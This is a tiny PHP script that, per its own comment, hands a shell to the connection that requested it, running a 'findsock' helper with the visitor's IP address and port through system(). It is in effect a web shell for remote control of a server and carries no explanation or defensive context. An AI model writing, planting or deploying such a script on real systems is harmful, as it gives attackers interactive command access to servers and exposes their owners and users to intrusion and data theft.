<?php
// hands a shell to the socket of the connection that asked
system("./findsock " . $_SERVER['REMOTE_ADDR'] . " " . $_SERVER['REMOTE_PORT']);
